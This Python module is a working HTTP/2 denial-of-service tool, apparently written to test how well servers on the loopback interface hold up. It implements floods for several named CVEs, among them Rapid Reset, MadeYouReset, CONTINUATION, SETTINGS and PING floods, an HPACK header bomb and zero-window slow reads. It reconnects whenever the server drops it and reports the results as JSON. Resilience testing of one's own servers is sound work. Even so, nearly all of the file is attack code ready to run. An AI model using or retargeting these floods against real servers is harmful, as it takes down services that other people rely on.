"""An attacker, as a process of its own: python3 -m kit.attack NAME PORT SECONDS

Floods a port of the loopback interface until the time is over. Thrown out, it comes back. Says at the end, as
JSON, how often it was thrown out, with which code, and after how many bytes."""

import json
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache, partial

from . import HOST
from .found import Found
from .frames import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY,
    PRIORITY_UPDATE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Parser, code_of, frame, heads, integer, literal, request,
    settings,
)  # fmt: skip

WHOLE = END_HEADERS | END_STREAM
CONNECTIONS = 8
#: So many streams are made in one go.
STREAMS = 2_000
BATCH_BYTES = 1 << 18
#: A pause after being thrown out, so that the attack is the frames and not the connecting.
BACK_AFTER_SECONDS = 0.005
CANCEL = (8).to_bytes(4, "big")
LONGEST_SECONDS = 600


@dataclass(frozen=True)
class Flood:
    #: Sent once, after the preface.
    opening: bytes
    #: Sent after it: the first piece, the second, without end.
    piece: Callable[[int], bytes] | None = None
    #: Whether it reads what comes back.
    reads: bool = True


def times(piece: bytes) -> Callable[[int], bytes]:
    """The same again and again."""
    batch = piece * max(1, BATCH_BYTES // len(piece))
    return lambda _: batch


def streams(block: bytes, flags: int = WHOLE, then: bytes = b"", kind_then: int | None = None, start: int = 1):
    """HEADERS on stream after stream."""
    return lru_cache(maxsize=None)(
        lambda number: heads(STREAMS, block, flags, then, kind_then, start + 2 * STREAMS * number)
    )


def rapid_reset() -> Flood:
    """CVE-2023-44487: requests taken back at once."""
    return Flood(settings(), streams(request(), then=CANCEL, kind_then=RST_STREAM))


def made_you_reset() -> Flood:
    """CVE-2025-8671: requests that the server has to reset, as their body is longer than they say."""
    block = request(method=b"POST") + literal(b"content-length", b"1")
    return Flood(settings(), streams(block, END_HEADERS, b"xx", DATA))


def continuation() -> Flood:
    """CVE-2024-27316 and others: a field section without end."""
    opening = settings() + frame(HEADERS, END_STREAM, 1, request())
    return Flood(opening, times(frame(CONTINUATION, 0, 1, literal(b"x-flood", b"y" * 64))))


def continuation_empty() -> Flood:
    """The same with empty frames, which no limit of bytes ever stops."""
    opening = settings() + frame(HEADERS, END_STREAM, 1, request())
    return Flood(opening, times(frame(CONTINUATION, 0, 1)))


def settings_flood() -> Flood:
    """CVE-2019-9515: each wants an acknowledgement."""
    return Flood(settings(), times(settings((INITIAL_WINDOW_SIZE, 65535))))


def settings_unread() -> Flood:
    """The same by one who takes no acknowledgement: do they pile up?"""
    return Flood(settings(), times(settings((INITIAL_WINDOW_SIZE, 65535))), reads=False)


def ping() -> Flood:
    """CVE-2019-9512: each wants an answer."""
    return Flood(settings(), times(frame(PING, 0, 0, b"floodest")))


def ping_unread() -> Flood:
    """The same by one who takes no answer."""
    return Flood(settings(), times(frame(PING, 0, 0, b"floodest")), reads=False)


def window_update() -> Flood:
    """Work for nothing: one byte more, again and again."""
    return Flood(settings(), times(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))))


def empty_data() -> Flood:
    """CVE-2019-9518: a body that never grows and never ends."""
    opening = settings() + frame(HEADERS, END_HEADERS, 1, request(method=b"POST"))
    return Flood(opening, times(frame(DATA, 0, 1)))


def empty_headers() -> Flood:
    """CVE-2019-9518: requests with nothing in them."""
    return Flood(settings(), streams(b""))


def priority() -> Flood:
    """CVE-2019-9513: a dependency that changes all the time."""
    opening = settings() + frame(HEADERS, END_HEADERS, 1, request(method=b"POST"))
    return Flood(opening, times(b"".join(frame(PRIORITY, 0, 3, bytes([0, 0, 0, 1, weight])) for weight in range(200))))


def priority_update() -> Flood:
    """The same in the words of RFC 9218."""
    update = frame(PRIORITY_UPDATE, 0, 0, (1).to_bytes(4, "big") + b"u=1, i")
    return Flood(settings() + frame(HEADERS, END_HEADERS, 1, request(method=b"POST")), times(update))


def field_bomb() -> Flood:
    """CVE-2016-6581: few bytes that stand for many, by the table of HPACK."""
    opening = settings() + frame(HEADERS, WHOLE, 1, request() + literal(b"x-bomb", b"b" * 3900, index=True))
    references = integer(62, 7, 0x80) * 4000
    return Flood(opening, lru_cache(maxsize=None)(lambda number: heads(50, request() + references, WHOLE, start=3 + 100 * number)))


def zero_window() -> Flood:
    """Slow reads: large answers asked for, and no window given for them, ever."""
    opening = settings((INITIAL_WINDOW_SIZE, 0)) + heads(100, request(b"/bytes/1048576"), WHOLE)
    return Flood(opening)


def tiny_window() -> Flood:
    """CVE-2019-9511: a byte of window at a time."""
    opening = settings((INITIAL_WINDOW_SIZE, 1)) + heads(100, request(b"/bytes/1048576"), WHOLE)
    updates = b"".join(frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")) for stream in range(1, 200, 2))
    return Flood(opening, lambda _: updates)


FLOODS = {
    made.__name__.removesuffix("_flood").replace("_", "-"): made
    for made in (rapid_reset, made_you_reset, continuation, continuation_empty, settings_flood, settings_unread, ping,
                 ping_unread, window_update, empty_data, empty_headers, priority, priority_update, field_bomb,
                 zero_window, tiny_window)
}  # fmt: skip


class Attacker:
    """One connection, opened again whenever it ends."""

    def __init__(self, flood: Flood, port: int, found: Found):
        self.flood, self.port, self.found = flood, port, found
        self.socket: socket.socket | None = None
        self.back_at = 0.0

    def connect(self) -> None:
        self.socket = socket.create_connection((HOST, self.port), 5)
        self.socket.setblocking(False)
        self.parser = Parser()
        self.code: str | None = None
        self.pending = memoryview(PREFACE + self.flood.opening)
        self.number = 0
        self.opened = time.monotonic()
        self.found.connections += 1

    def refill(self) -> None:
        if self.flood.piece:
            self.pending = memoryview(self.flood.piece(self.number))
            self.number += 1

    def write(self) -> None:
        try:
            sent = self.socket.send(self.pending)
        except BlockingIOError:
            return
        except OSError as error:
            # What was said before the end may still be there to be read.
            self.read(last=True)
            self.end(type(error).__name__)
            return
        self.found.bytes += sent
        self.pending = self.pending[sent:]
        if not self.pending:
            self.refill()

    def read(self, last: bool = False) -> None:
        try:
            while piece := self.socket.recv(1 << 16):
                for kind, flags, _, payload in self.parser.take(piece):
                    if kind == GOAWAY:
                        self.code = code_of(payload)
                    elif kind == SETTINGS and not flags & ACK and not self.flood.piece:
                        self.pending = memoryview(bytes(self.pending) + frame(SETTINGS, ACK, 0))
                    elif kind == RST_STREAM:
                        self.found.resets += 1
                if not last and len(piece) < 1 << 16:
                    return
            self.end("closed")
        except BlockingIOError:
            return
        except OSError as error:
            self.end(type(error).__name__)

    def end(self, how: str) -> None:
        if self.socket is None:
            return
        self.found.ends[f"GOAWAY {self.code}" if self.code else how] += 1
        self.found.longest = max(self.found.longest, time.monotonic() - self.opened)
        self.socket.close()
        self.socket = None
        self.back_at = time.monotonic() + BACK_AFTER_SECONDS


def attack(flood: Flood, port: int, seconds: float) -> Found:
    found = Found()
    attackers = [Attacker(flood, port, found) for _ in range(CONNECTIONS)]
    until = time.monotonic() + seconds
    while (now := time.monotonic()) < until:
        for one in attackers:
            if one.socket is None and one.back_at <= now:
                try:
                    one.connect()
                except OSError:
                    found.refused += 1
                    one.back_at = now + 0.1
        open_ones = {one.socket: one for one in attackers if one.socket}
        wanting = [one.socket for one in open_ones.values() if one.pending]
        reading = list(open_ones) if flood.reads else []
        readable, writable, _ = select.select(reading, wanting, [], 0.05)
        for ready in readable:
            open_ones[ready].read()
        for ready in writable:
            if open_ones[ready].socket is ready:
                open_ones[ready].write()
    return found


def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if name in FLOODS:
        flood = FLOODS[name]()
        action = partial(attack, flood)
    else:
        from . import attack_handshakes, attack_quic

        action = (attack_handshakes.ATTACKS | attack_quic.ATTACKS)[name]()
    print("ready", flush=True)
    sys.stdin.readline()
    found = action(port, min(seconds, LONGEST_SECONDS))
    kept = found.connections - sum(found.ends.values())
    print(json.dumps({"ends": found.ends, "connections": found.connections, "kept": kept, "bytes": found.bytes,
                      "resets": found.resets, "refused": found.refused, "longest_s": found.longest, "amplification": found.amplification}))  # fmt: skip


if __name__ == "__main__":
    main()
